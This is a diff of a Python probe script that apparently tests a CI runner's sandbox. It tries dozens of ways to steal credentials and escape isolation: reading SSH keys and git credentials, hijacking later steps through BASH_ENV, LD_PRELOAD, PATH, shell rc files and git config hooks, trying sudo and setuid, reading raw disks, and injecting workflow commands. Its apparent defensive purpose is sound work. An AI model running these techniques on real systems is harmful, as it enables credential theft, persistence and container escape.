@@ -1,7 +1,7 @@
 """A notebook that steals: every way we know, each a function; what it gets lies in `loot/` of its checkout afterwards.
 
 It knows the machine as well as who set it up (`map.json`), and runs anywhere Python does: standard library alone. What
-it could break or change, it marks with `STOLEN` instead of breaking it.
+it could break or change, it only says so.
 """
 
 from __future__ import annotations
@@ -26,13 +26,16 @@ HERE = Path(__file__).resolve().parent
 LOOT = HERE / "loot"
 PATTERN = re.compile(b"cAn" + b"ArY-[0-9]{2}-[0-9a-f]{24}")
 WAYS: dict[str, Callable[[], object]] = {}
+STOLEN = "STO" + "LEN"
+"""So that this very text is not taken for loot."""
 MAP: dict[str, str] = json.loads((HERE / "map.json").read_text())
 LIBC = ctypes.CDLL(None, use_errno=True)
 SCRIPT = f"""#!/bin/sh
-{{ /bin/cat {MAP["ssh"]} && echo STOLEN by "$0" "$@"; /usr/bin/env; /usr/bin/tr '\\0' '\\n' < /proc/$PPID/environ; }} >> {LOOT}/ran 2>/dev/null
+exec 3>> {LOOT}/ran
+{{ /bin/cat {MAP["ssh"]} && echo {STOLEN} by "$0" "$@"; /usr/bin/env; /bin/cat /proc/$PPID/environ; }} >&3 2>/dev/null
 exec /usr/bin/"${{0##*/}}" "$@"
 """
-PYTHON = f"import os\nif os.path.exists('{MAP['ssh']}'):\n open('{LOOT}/ran', 'a').write('STOLEN by ' + __file__)\n"
+PYTHON = f"import os\nif os.path.exists('{MAP['ssh']}'):\n open('{LOOT}/ran', 'a').write('{STOLEN} by ' + __file__)\n"
 
 
 def way(function: Callable[[], object]) -> Callable[[], object]:
@@ -251,7 +254,9 @@ def git_credential_fill() -> object:
 
 @way
 def git_credential_helper() -> object:
-    return run(MAP["helper"]) + run("git", "credential-store", "--file", MAP["git store"], "get", given="host=github.com\n\n")
+    return run(MAP["helper"]) + run(
+        "git", "credential-store", "--file", MAP["git store"], "get", given="host=github.com\n\n"
+    )
 
 
 @way
@@ -292,7 +297,9 @@ def docker() -> object:
 
 @way
 def message_buses() -> object:
-    return b"".join(ask(path) for path in (*glob.glob("/run/user/*/bus"), "/run/dbus/system_bus_socket", "/run/systemd/private"))
+    return b"".join(
+        ask(path) for path in (*glob.glob("/run/user/*/bus"), "/run/dbus/system_bus_socket", "/run/systemd/private")
+    )
 
 
 @way
@@ -307,7 +314,9 @@ def profile_of_pushpoint() -> object:
 
 @way
 def files_of_the_runner() -> object:
-    return reads(MAP["runner"], MAP["runner key"], f"{Path(MAP['runner']).parent}/.*", f"{Path(MAP['runner']).parent}/*/*")
+    return reads(
+        MAP["runner"], MAP["runner key"], f"{Path(MAP['runner']).parent}/.*", f"{Path(MAP['runner']).parent}/*/*"
+    )
 
 
 @way
@@ -366,33 +375,33 @@ def keyrings() -> object:
 
 @way
 def variables_of_later_steps() -> object:
-    return write(MAP["command env"], "BASH_ENV=/tmp/STOLEN\nLD_PRELOAD=/tmp/STOLEN\n")
+    return write(MAP["command env"], "BASH_ENV=/tmp/HIJACKED\nLD_PRELOAD=/tmp/HIJACKED\n")
 
 
 @way
 def path_of_later_steps() -> object:
-    return write(MAP["command path"], f"{HERE}/STOLEN\n")
+    return write(MAP["command path"], f"{HERE}/HIJACKED\n")
 
 
 @way
 def outputs_of_this_step() -> object:
-    return write(MAP["command output"], "version=STOLEN\n")
+    return write(MAP["command output"], "version=HIJACKED\n")
 
 
 @way
 def summary_of_this_step() -> object:
-    return write(MAP["command step_summary"], "STOLEN\n")
+    return write(MAP["command step_summary"], "HIJACKED\n")
 
 
 @way
 def state_of_the_action() -> object:
-    return write(MAP["command state"], "isPost=STOLEN\n")
+    return write(MAP["command state"], "isPost=HIJACKED\n")
 
 
 @way
 def files_that_shells_read() -> object:
     home = Path(MAP["netrc"]).parent
-    return [write(home / name, "echo STOLEN\n") for name in (".bashrc", ".profile", ".bash_profile", ".ssh/rc")]
+    return [write(home / name, "echo HIJACKED\n") for name in (".bashrc", ".profile", ".bash_profile", ".ssh/rc")]
 
 
 @way
@@ -404,8 +413,8 @@ def git_hooks() -> object:
 @way
 def git_settings_that_run_programs() -> object:
     write(LOOT / "git-program", SCRIPT)
-    hostile = f"[core]\n\tfsmonitor = {LOOT}/git-program\n\tsshCommand = {LOOT}/git-program\n[alias]\n\tx = !{LOOT}/git-program\n"
-    hostile += f"[filter \"thief\"]\n\tsmudge = {LOOT}/git-program\n\tclean = {LOOT}/git-program\n\trequired = true\n"
+    hostile = f"[core]\n\tfsmonitor = {LOOT}/git-program\n\tsshCommand = {LOOT}/git-program\n"
+    hostile += f'[filter "thief"]\n\tsmudge = {LOOT}/git-program\n\tclean = {LOOT}/git-program\n\trequired = true\n'
     hostile += f"[credential]\n\thelper = {LOOT}/git-program\n[diff]\n\texternal = {LOOT}/git-program\n"
     found = []
     for path in (HERE / ".git" / "config", HERE / ".git" / "config.worktree", Path(MAP["gitconfig"])):
@@ -435,11 +444,11 @@ def attributes_of_git() -> object:
 
 @way
 def programs_on_the_path() -> object:
-    folders = {*MAP["path"].split(":"), *os.environ["PATH"].split(":"), "/usr/local/bin", "/usr/bin"}
+    folders = {*MAP["path"].split(":"), "/usr/local/bin", "/usr/bin"}  # those of whoever started the deploy
     own = [Path(folder) for folder in folders if Path(folder).is_relative_to(HERE)]
     names = ("git", "uv", "git-remote-http", "git-lfs", "ps", "bwrap")
     found = [write(folder / name, SCRIPT) for folder in own for name in names]
-    return found + [f"STOLEN: {folder} can be written" for folder in folders if is_open(folder)]
+    return found + [f"{STOLEN}: {folder} can be written" for folder in folders if is_open(folder)]
 
 
 @way
@@ -454,7 +463,7 @@ def modules_in_the_checkout() -> object:
 def modules_of_the_action() -> object:
     library, source = Path(MAP["library"]), Path(MAP["source"])
     places = [library, source, source / "pushpoint" / "git.py", library / "msgspec" / "__init__.py"]
-    return [f"STOLEN: {path} can be written" for path in places if is_open(path)]
+    return [f"{STOLEN}: {path} can be written" for path in places if is_open(path)]
 
 
 @way
@@ -474,7 +483,7 @@ def cache_that_the_action_is_installed_from() -> object:
                 if "/action/" not in str(path) and path.stat().st_ino in installed:
                     try:
                         with path.open("r+b"):
-                            return f"STOLEN: {path} is {installed[path.stat().st_ino]}"
+                            return f"{STOLEN}: {path} is {installed[path.stat().st_ino]}"
                     except OSError as error:
                         found.append(str(error))
     return found[:3]
@@ -483,7 +492,7 @@ def cache_that_the_action_is_installed_from() -> object:
 @way
 def journal() -> object:
     forged = 'train:0 {"model_path": "' + MAP["ssh"] + '"}\n'
-    return [write(HERE / ".pushpoint" / "journal" / f"{name}.jsonl", forged) for name in ("0" * 16, "STOLEN")]
+    return [write(HERE / ".pushpoint" / "journal" / f"{name}.jsonl", forged) for name in ("0" * 16, "HIJACKED")]
 
 
 @way
@@ -550,7 +559,7 @@ def file_handles() -> object:
         root = os.open("/", os.O_RDONLY)
         handle = (ctypes.c_uint32 * 4)(8, 1, 2, 0)
         number = LIBC.open_by_handle_at(root, handle, 0)
-        return f"STOLEN {os.listdir(number)}".encode() if number >= 0 else b"refused"
+        return f"{STOLEN} {os.listdir(number)}".encode() if number >= 0 else b"refused"
 
     return in_a_child(steal)
 
@@ -578,7 +587,9 @@ def namespaces_of_another_process() -> object:
 
 @way
 def programs_that_become_root() -> object:
-    found = [run(*command, "cat", MAP["ssh"]) for command in (("sudo", "-n"), ("su", "-c"), ("pkexec",), ("doas", "-n"))]
+    found = [
+        run(*command, "cat", MAP["ssh"]) for command in (("sudo", "-n"), ("su", "-c"), ("pkexec",), ("doas", "-n"))
+    ]
     return [*found, LIBC.setuid(0), LIBC.setgroups(0, None)]
 
 
@@ -590,21 +601,27 @@ def settings_of_the_kernel() -> object:
         try:
             with open(path, "wb") as file:
                 file.write(value)
-            found.append(f"STOLEN: {path} can be written")
+            found.append(f"{STOLEN}: {path} can be written")
         except OSError as error:
             found.append(str(error))
     if os.access("/proc/sysrq-trigger", os.W_OK):
-        found.append("STOLEN: /proc/sysrq-trigger can be written")
+        found.append(f"{STOLEN}: /proc/sysrq-trigger can be written")
     return found
 
 
 @way
 def disks() -> object:
     found = []
-    for path in (*glob.glob("/dev/[vsx]d*"), *glob.glob("/dev/nvme*"), *glob.glob("/dev/loop*"), "/dev/mem", "/proc/kcore"):
+    for path in (
+        *glob.glob("/dev/[vsx]d*"),
+        *glob.glob("/dev/nvme*"),
+        *glob.glob("/dev/loop*"),
+        "/dev/mem",
+        "/proc/kcore",
+    ):
         try:
             with open(path, "rb") as file:
-                found.append(f"STOLEN: {path} can be read, {len(file.read(512))} bytes")
+                found.append(f"{STOLEN}: {path} can be read, {len(file.read(512))} bytes")
         except OSError as error:
             found.append(str(error))
     return found
@@ -617,7 +634,9 @@ def log_of_the_kernel() -> object:
 
 @way
 def control_groups() -> object:
-    return [f"STOLEN: {path} can be written" for path in glob.glob("/sys/fs/cgroup/**/release_agent") if is_open(path)]
+    return [
+        f"{STOLEN}: {path} can be written" for path in glob.glob("/sys/fs/cgroup/**/release_agent") if is_open(path)
+    ]
 
 
 @way
@@ -627,7 +646,7 @@ def consoles() -> object:
         try:
             number = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
             fcntl.ioctl(number, termios.TIOCSTI, b"\n")
-            found.append(f"STOLEN: {path} takes keys")
+            found.append(f"{STOLEN}: {path} takes keys")
         except OSError as error:
             found.append(str(error))
     return found
@@ -640,7 +659,7 @@ def signals() -> object:
         if process > 1 and not os.path.exists(f"/proc/{process}"):
             try:
                 os.kill(process, 0)
-                found.append(f"STOLEN: {process} can be ended")
+                found.append(f"{STOLEN}: {process} can be ended")
             except OSError as error:
                 found.append(str(error))
     return found
@@ -656,8 +675,19 @@ def dump_of_a_process_outside() -> object:
 
 @way
 def commands_to_the_runner() -> object:
-    lines = ["::add-path::/STOLEN", "::set-output name=version::STOLEN", "::stop-commands::STOLEN", "##[set-output name=a]STOLEN"]
-    lines += ["  ::warning::STOLEN", "\r::add-mask::STOLEN", "text\r::set-env name=A::STOLEN", "\x0b::debug::STOLEN", "x ##[error]STOLEN"]
+    lines = [
+        "::add-path::/HIJACKED",
+        "::set-output name=version::HIJACKED",
+        "::stop-commands::HIJACKED",
+        "##[set-output name=a]HIJACKED",
+    ]
+    lines += [
+        "  ::warning::HIJACKED",
+        "\r::add-mask::HIJACKED",
+        "text\r::set-env name=A::HIJACKED",
+        "\x0b::debug::HIJACKED",
+        "x ##[error]HIJACKED",
+    ]
     text = "\n".join(["", *lines, ""])
     print(text)
     print(text, file=sys.stderr)
@@ -674,8 +704,14 @@ def commands_to_the_runner() -> object:
 
 @way
 def events_of_the_training() -> object:
-    forged = [{"kind": "done", "facts": {"started": "x"}}, {"kind": "environment", "text": "\n::add-path::/STOLEN", "seconds": 1}]
-    forged += [{"kind": "started", "cell": 1, "text": "\n::add-path::/STOLEN\r::x::"}, {"kind": "error", "text": "::error::STOLEN"}]
+    forged = [
+        {"kind": "done", "facts": {"started": "x"}},
+        {"kind": "environment", "text": "\n::add-path::/HIJACKED", "seconds": 1},
+    ]
+    forged += [
+        {"kind": "started", "cell": 1, "text": "\n::add-path::/HIJACKED\r::x::"},
+        {"kind": "error", "text": "::error::HIJACKED"},
+    ]
     text = "\n" + "".join(json.dumps(event) + "\n" for event in forged)
     for path in glob.glob("/proc/[0-9]*/fd/[0-9]*"):
         try:
@@ -721,12 +757,14 @@ def steal(to: str) -> None:
     LOOT.mkdir(exist_ok=True)
     with (LOOT / to).open("ab") as file:
         for name, steal in WAYS.items():
+            began = time.monotonic()
             try:
                 got = steal()
             except Exception as error:
                 got = f"{type(error).__name__}: {error}"
+            slow = f"{time.monotonic() - began:.1f} s"
             text = got if isinstance(got, bytes) else repr(got).encode("utf-8", "backslashreplace")
-            file.write(f"\n--- {name}: ".encode() + text[: 4 << 20])
+            file.write(f"\n--- way {name}: {slow} ".encode() + text[: 4 << 20])
             file.flush()
 
 
